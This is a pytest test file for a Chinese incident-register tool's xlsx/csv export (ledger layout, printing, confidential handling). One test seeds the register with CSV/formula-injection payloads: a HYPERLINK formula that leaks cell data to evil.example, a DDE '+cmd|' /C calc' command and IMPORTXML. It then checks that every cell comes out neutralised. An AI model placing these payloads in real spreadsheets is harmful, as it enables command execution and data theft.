"""`yuqing export xlsx|csv`: the 台账 read back cell by cell."""

from __future__ import annotations

import csv
import io
from datetime import datetime
from pathlib import Path
from typing import Any

import openpyxl
import pytest
import yaml

from yuqing.cli import main

from .conftest import PROJECT
from .test_stats import NOW, small_register


@pytest.fixture
def small(register_dir: Any) -> Any:
    for record in small_register():
        register_dir.write(record)
    return register_dir


def export(root: Path, out: Path, *args: str) -> Any:
    assert main(["export", "xlsx", "--root", str(root), "--now", NOW, "--out", str(out), *args]) == 0
    return openpyxl.load_workbook(str(out))


LEDGER_HEADER_ROW = 3


def rows_by_id(sheet: Any, header_row: int | None = None) -> dict[str, dict[str, Any]]:
    if header_row is None:
        header_row = LEDGER_HEADER_ROW  # 台账, 明细 and 时限 alike: title and 制表 lines above it
    header = [c.value for c in sheet[header_row]]
    return {row[header.index("编号")]: dict(zip(header, row))
            for row in sheet.iter_rows(min_row=header_row + 1, values_only=True)}


def all_text(book: Any) -> list[str]:
    return [c.value for sheet in book for row in sheet.iter_rows() for c in row if isinstance(c.value, str)]


LEDGER_HEADERS = ["序号", "编号", "标题", "等级", "状态", "领域", "发现时间", "来源", "责任单位", "协办单位",
                  "事件概要", "处置经过", "逾期", "时限情况", "评估总结", "标签"]


def test_ledger_sheet_is_ready_to_hand_upward(small: Any, tmp_path: Path, capsys: Any) -> None:
    book = export(small.root, tmp_path / "台账.xlsx")
    # E is withdrawn, F confidential: neither is exported by default.
    assert capsys.readouterr().out == f"已导出 5 起事件(不含涉密事件)、9 项时限到 {tmp_path / '台账.xlsx'}\n"
    assert book.sheetnames == ["舆情台账", "明细", "时限", "统计"]
    sheet = book["舆情台账"]
    # Title row merged across the table, then 制表单位 / range / 制表日期 ("now" is 2025-04-10).
    assert sheet["A1"].value == "示例市市场监督管理局舆情台账"
    assert "A1:P1" in {str(r) for r in sheet.merged_cells.ranges}
    line = [c.value for c in sheet[2] if c.value]
    assert line == ["制表单位:示例市市场监督管理局", "范围(发现时间):全部;共 5 起", "制表日期:2025年4月10日"]
    assert [c.value for c in sheet[3]] == LEDGER_HEADERS   # 涉密 only with --include-confidential
    # Printing: A4 landscape, one page wide, the header row on every page.
    setup = sheet.page_setup
    assert (setup.orientation, setup.paperSize, setup.fitToWidth, setup.fitToHeight) == ("landscape", 9, 1, 0)
    assert sheet.sheet_properties.pageSetUpPr.fitToPage is True
    assert sheet.print_title_rows == "$3:$3"
    assert (sheet.page_margins.left, sheet.page_margins.top) == (0.4, 0.6)
    assert sheet.freeze_panes == "C4"
    assert sheet.auto_filter.ref == "A3:P8"
    rows = rows_by_id(sheet)
    assert list(rows) == ["YQ-2025-0001", "YQ-2025-0002", "YQ-2025-0003", "YQ-2025-0004", "YQ-2025-0007"]
    assert [r["序号"] for r in rows.values()] == [1, 2, 3, 4, 5]
    c = rows["YQ-2025-0003"]
    assert (c["等级"], c["状态"], c["领域"], c["来源"], c["责任单位"]) == (
        "重大", "处置中", "产品质量", "自媒体", "产品质量安全监督管理科")
    assert c["发现时间"] == datetime(2025, 3, 10, 8, 0)
    assert c["处置经过"] == "03-10 08:10 定级为一般\n03-10 12:00 升级为重大\n03-10 17:00 上报"
    assert c["逾期"] == "是"
    # Rule titles, never rule ids.
    assert c["时限情况"] == "敏感、重大舆情 4 小时内上报:超时1小时\n重大舆情 48 小时内回应:已逾期29天5小时"
    d = rows["YQ-2025-0004"]
    assert d["等级"] == "一般(曾达特别重大)"
    assert d["评估总结"] == ("起因:设备故障\n性质:安全事故\n影响:较大\n责任:企业\n经验教训:加强检验\n"
                          "完成时间:2025-03-17 10:00")
    assert d["处置经过"].splitlines()[-1] == "03-18 10:00 归档"
    # Nothing internal: no rule ids, no file paths, anywhere in the workbook.
    texts = all_text(book)
    assert not [t for t in texts if "respond-48h" in t or "report-4h" in t or "incidents/" in t or ".yml" in t]
    # Highlighting: C has an overdue deadline (red), A one met late (amber), B none.
    fills = {row[1].value: row[1].fill.fgColor.rgb for row in sheet.iter_rows(min_row=4)}
    assert (fills["YQ-2025-0003"], fills["YQ-2025-0001"], fills["YQ-2025-0002"]) == (
        "00FFC7CE", "00FFEB9C", "00000000")
    assert sheet["G4"].number_format == "yyyy-mm-dd hh:mm"
    assert sheet["G4"].value == datetime(2025, 3, 3, 9, 0)
    # Each row is as high as its longest wrapped cell: D's eight events need eight lines.
    assert sheet.row_dimensions[7].height >= 8 * 13 > sheet.row_dimensions[5].height


def test_detail_deadline_and_statistics_sheets(small: Any, tmp_path: Path) -> None:
    book = export(small.root, tmp_path / "台账.xlsx")
    detail = rows_by_id(book["明细"])
    c = detail["YQ-2025-0003"]
    assert (c["最高等级"], c["发生时间"], c["首次上报"], c["首次回应"], c["平息时间"]) == (
        "重大", datetime(2025, 3, 10, 7, 0), datetime(2025, 3, 10, 17, 0), None, None)
    d = detail["YQ-2025-0004"]
    assert (d["等级"], d["最高等级"], d["首次回应"], d["平息时间"], d["归档时间"], d["评估总结完成"]) == (
        "一般", "特别重大", datetime(2025, 3, 12, 23, 0), datetime(2025, 3, 16, 10, 0),
        datetime(2025, 3, 18, 10, 0), datetime(2025, 3, 17, 10, 0))
    assert c["逾期情况"] == "敏感、重大舆情 4 小时内上报:超时1小时;重大舆情 48 小时内回应:已逾期29天5小时"
    deadlines = [dict(zip([c.value for c in book["时限"][3]], r))
                 for r in book["时限"].iter_rows(min_row=4, values_only=True)]
    assert "规则编号" not in deadlines[0]
    assert [(d["编号"], d["时限"], d["状态"]) for d in deadlines[:4]] == [
        ("YQ-2025-0001", "网民诉求 3 个工作小时内初步回应", "按时完成"),
        ("YQ-2025-0001", "网民诉求 3 个工作日内答复", "超时完成"),
        ("YQ-2025-0002", "敏感、重大舆情 4 小时内上报", "按时完成"),
        ("YQ-2025-0003", "重大舆情 48 小时内回应", "已逾期"),
    ]
    assert [d["状态"] for d in deadlines[4:]] == ["超时完成", "按时完成", "按时完成", "超时完成", "进行中"]
    reply = deadlines[1]
    assert (reply["起算时间"], reply["截止时间"], reply["完成时间"]) == (
        datetime(2025, 3, 3, 9, 0), datetime(2025, 3, 6, 17, 30), datetime(2025, 3, 7, 10, 0))
    stats = list(book["统计"].iter_rows(values_only=True))
    assert stats[3][:2] == ("合计(起)", 5)
    assert stats[4][:2] == ("时限按时率", 0.5)
    level = stats.index(("按等级(当前等级)",) + (None,) * (len(stats[0]) - 1))
    assert [r[:2] for r in stats[level + 2:level + 6]] == [("一般", 2), ("敏感", 2), ("重大", 1), ("特别重大", 0)]


def test_detail_and_deadline_sheets_have_the_ledgers_heading_and_print_readably(small: Any, tmp_path: Path) -> None:
    """明细 and 时限 are too wide for one page at a readable size: a fixed 75 % scale (10 pt prints at
    7.5 pt), as many pages wide as it takes, 编号 repeated on each; the 台账's title and 制表 lines on top."""
    book = export(small.root, tmp_path / "台账.xlsx")
    for name, title, total in (("明细", "示例市市场监督管理局舆情台账(明细)", "共 5 起"),
                               ("时限", "示例市市场监督管理局舆情处置时限表", "共 9 项时限")):
        sheet = book[name]
        assert sheet["A1"].value == title and sheet["A1"].font.size == 18
        merged = next(str(r) for r in sheet.merged_cells.ranges if str(r).startswith("A1:"))
        assert merged != "A1:" + sheet.cell(3, sheet.max_column).column_letter + "1"   # the first page's columns
        assert [c.value for c in sheet[2] if c.value] == [
            "制表单位:示例市市场监督管理局", f"范围(发现时间):全部;{total}", "制表日期:2025年4月10日"]
        assert sheet["A3"].value == "编号" and sheet.freeze_panes == "B4"
        setup = sheet.page_setup
        assert (setup.orientation, setup.paperSize, setup.scale, setup.pageOrder) == (
            "landscape", 9, 75, "overThenDown")
        assert not sheet.sheet_properties.pageSetUpPr.fitToPage
        assert (sheet.print_title_rows, sheet.print_title_cols) == ("$3:$3", "$A:$A")
        widths = [sheet.column_dimensions[c.column_letter].width for c in sheet[3]]
        assert max(widths) <= 40   # long text wraps in its row instead of taking half a page
    detail = book["明细"]
    (row,) = [r for r in detail.iter_rows(min_row=4) if r[0].value == "YQ-2025-0003"]
    assert row[1].alignment.wrap_text and detail.row_dimensions[row[0].row].height >= 13.5


def test_include_confidential_and_period(small: Any, tmp_path: Path) -> None:
    book = export(small.root, tmp_path / "a.xlsx", "--include-confidential")
    ledger = rows_by_id(book["舆情台账"])
    assert list(ledger)[-2:] == ["YQ-2025-0006", "YQ-2025-0007"]
    assert ledger["YQ-2025-0006"]["涉密"] == "是" and ledger["YQ-2025-0007"]["涉密"] is None
    assert "A1:Q1" in {str(r) for r in book["舆情台账"].merged_cells.ranges}
    book = export(small.root, tmp_path / "b.xlsx", "--since", "2025-04-01")
    assert list(rows_by_id(book["舆情台账"])) == ["YQ-2025-0007"]
    assert [c.value for c in book["舆情台账"][2] if c.value][1] == "范围(发现时间):2025-04-01 至 现在;共 1 起"


def test_csv_has_bom_and_same_rows(small: Any, tmp_path: Path) -> None:
    out = tmp_path / "台账.csv"
    assert main(["export", "csv", "--root", str(small.root), "--now", NOW, "--out", str(out)]) == 0
    raw = out.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
    assert rows[0] == LEDGER_HEADERS
    assert [r[1] for r in rows[1:]] == ["YQ-2025-0001", "YQ-2025-0002", "YQ-2025-0003", "YQ-2025-0004",
                                        "YQ-2025-0007"]
    assert rows[3][0] == "3" and rows[3][6] == "2025-03-10 08:00"
    assert rows[3][11] == "03-10 08:10 定级为一般\n03-10 12:00 升级为重大\n03-10 17:00 上报"
    assert b"\r\n" in raw


def test_example_register_exports(tmp_path: Path) -> None:
    out = tmp_path / "台账.xlsx"
    assert main(["export", "xlsx", "--root", str(PROJECT), "--now", "2026-11-23T09:00:00+08:00",
                 "--out", str(out)]) == 0
    book = openpyxl.load_workbook(str(out))
    ids = list(rows_by_id(book["舆情台账"]))
    records = [yaml.safe_load(p.read_text(encoding="utf-8")) for p in (PROJECT / "incidents").rglob("*.yml")]
    expected = sorted(r["id"] for r in records if not r.get("withdrawn") and not r.get("confidential"))
    assert sorted(ids) == expected
    assert len(ids) == 24
    assert all(c.data_type != "f" for sheet in book for row in sheet.iter_rows() for c in row)


def test_unwritable_output_is_fatal(small: Any, tmp_path: Path, capsys: Any) -> None:
    blocker = tmp_path / "file"
    blocker.write_text("x")
    assert main(["export", "xlsx", "--root", str(small.root), "--now", NOW, "--out", str(blocker / "a.xlsx")]) == 2
    assert "无法写入" in capsys.readouterr().err


def test_a_file_with_errors_is_never_exported(register_dir: Any, tmp_path: Path, capsys: Any) -> None:
    """`confidential: yes` is an error (YAML 1.2 reads it as text): the record cannot be trusted
    to be public, so it stays out of the 台账 rather than leak."""
    from .conftest import base_incident

    register_dir.write(base_incident())
    secret = base_incident(id="YQ-2025-0002", title="不应外传的事件标题")
    secret["confidential"] = "yes"
    register_dir.write(secret)
    out = tmp_path / "台账.xlsx"
    export(register_dir.root, out)
    err = capsys.readouterr().err
    assert "1 个事件文件有错误,以下结果不含这些文件" in err
    ids = list(rows_by_id(openpyxl.load_workbook(out)["舆情台账"]))
    assert ids == ["YQ-2025-0001"]


HOSTILE_UNIT = '=HYPERLINK("http://x","y")'


def hostile_register(register_dir: Any) -> Any:
    """Formulas everywhere a spreadsheet might run them: title, platform, a unit in register.yml, notes."""
    from .conftest import base_incident

    data = yaml.safe_load((register_dir.root / "register.yml").read_text(encoding="utf-8"))
    register_dir.settings(units=[*data["units"], HOSTILE_UNIT, "-2+3", "@SUM(A1)"])
    register_dir.write(base_incident(
        title='=HYPERLINK("http://evil.example/?"&A1,"点击查看")',
        source={"channel": "社交媒体", "platform": "+cmd|' /C calc'!A0"},
        units={"lead": HOSTILE_UNIT, "assisting": ["-2+3", "@SUM(A1)"]}, tags=["=1+1"],
        summary="=IMPORTXML(\"http://x\", \"//a\")",
        timeline=[{"at": "2025-03-03T10:00:00+08:00", "type": "研判", "by": HOSTILE_UNIT}]))
    return register_dir


def test_no_cell_is_ever_a_formula(register_dir: Any, tmp_path: Path) -> None:
    """Every text cell of every sheet, register.yml's own vocabulary included, passes one neutraliser."""
    hostile_register(register_dir)
    out = tmp_path / "台账.xlsx"
    book = export(register_dir.root, out)
    cells = [c for sheet in book for row in sheet.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = [c.value for c in cells if isinstance(c.value, str)]
    assert not [t for t in texts if t.startswith(("=", "+", "-", "@", "\t", "\r"))]
    ledger = rows_by_id(book["舆情台账"])["YQ-2025-0001"]
    assert ledger["标题"] == "'=HYPERLINK(\"http://evil.example/?\"&A1,\"点击查看\")"
    assert (ledger["责任单位"], ledger["协办单位"], ledger["标签"]) == ("'" + HOSTILE_UNIT, "'-2+3、@SUM(A1)", "'=1+1")
    assert ledger["来源"] == "社交媒体·+cmd|' /C calc'!A0"
    assert rows_by_id(book["明细"])["YQ-2025-0001"]["来源平台"] == "'+cmd|' /C calc'!A0"
    # The statistics sheet lists register.yml's units by name.
    unit_cells = [r[0] for r in book["统计"].iter_rows(values_only=True) if r[0] and HOSTILE_UNIT in str(r[0])]
    assert unit_cells and set(unit_cells) == {"'" + HOSTILE_UNIT}
    csv_out = tmp_path / "台账.csv"
    assert main(["export", "csv", "--out", str(csv_out), "--root", str(register_dir.root), "--now", NOW]) == 0
    rows = list(csv.reader(io.StringIO(csv_out.read_text(encoding="utf-8-sig"), newline="")))
    assert not [cell for row in rows for cell in row if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
    assert "'=HYPERLINK(" in rows[1][2] and rows[1][8] == "'" + HOSTILE_UNIT


def test_stats_csv_neutralises_unit_names(register_dir: Any, capsys: Any) -> None:
    hostile_register(register_dir)
    capsys.readouterr()
    for extra in ((), ("--by", "unit")):
        assert main(["stats", "--root", str(register_dir.root), "--now", NOW, "--format", "csv", *extra]) == 0
        rows = list(csv.reader(io.StringIO(capsys.readouterr().out)))
        assert not [cell for row in rows for cell in row if cell.startswith(("=", "+", "-", "@"))]
        assert any(cell == "'" + HOSTILE_UNIT for row in rows for cell in row)


def test_control_characters_never_break_a_workbook(register_dir: Any, tmp_path: Path) -> None:
    """Text with control characters (refused by check, but a writer must not depend on that)."""
    from yuqing.export import ledger
    from yuqing.register import load_register
    from yuqing.render.xlsx import write_xlsx
    from yuqing.stats import judge_all
    from yuqing.times import parse_time, zone

    from .conftest import base_incident

    register_dir.write(base_incident())
    tz = zone("Asia/Shanghai")
    now = parse_time(NOW, tz)
    register = load_register(register_dir.root, now=now)
    incident = register.incidents[0]
    from dataclasses import replace

    dirty = replace(incident, title="标题\x07含\x1b控制字符", summary="=概要\x00")
    deadlines, _ = judge_all([dirty], register.config, now)
    out = tmp_path / "a.xlsx"
    write_xlsx(ledger([dirty], deadlines, now), tz, out)
    row = rows_by_id(openpyxl.load_workbook(out)["舆情台账"])["YQ-2025-0001"]
    assert (row["标题"], row["事件概要"]) == ("标题含控制字符", "'=概要")


def test_json_export_to_a_file_is_whole_or_absent(register_dir: Any, tmp_path: Path,
                                                  capsys: pytest.CaptureFixture[str]) -> None:
    import json

    from .conftest import base_incident
    from .githelper import run_cli

    root = register_dir.root
    register_dir.write(base_incident(id="YQ-2025-0001"))
    register_dir.write(base_incident(id="YQ-2025-0002", title="第二起"))
    target = tmp_path / "out" / "export.json"
    code, out, _ = run_cli(["export", "json", "--root", str(root), "--now", NOW, "--out", str(target)], capsys)
    assert code == 0 and "已导出公开事件" in out
    code, shown, _ = run_cli(["export", "json", "--root", str(root), "--now", NOW], capsys)
    written = target.read_text(encoding="utf-8")
    assert code == 0 and written == shown
    assert [r["id"] for r in json.loads(written)["records"]] == ["YQ-2025-0001", "YQ-2025-0002"]
    # The last record names a confidential one: nothing is written, not even the records before it.
    register_dir.write(base_incident(id="YQ-2025-0003", title="某专项检查线索核查", confidential=True))
    register_dir.write(base_incident(id="YQ-2025-0004", summary="与 YQ-2025-0003 有关。"))
    target.unlink()
    code, out, err = run_cli(["export", "json", "--root", str(root), "--now", NOW, "--out", str(target)], capsys)
    assert code == 2 and "提到了涉密事件" in err
    assert list(target.parent.iterdir()) == []
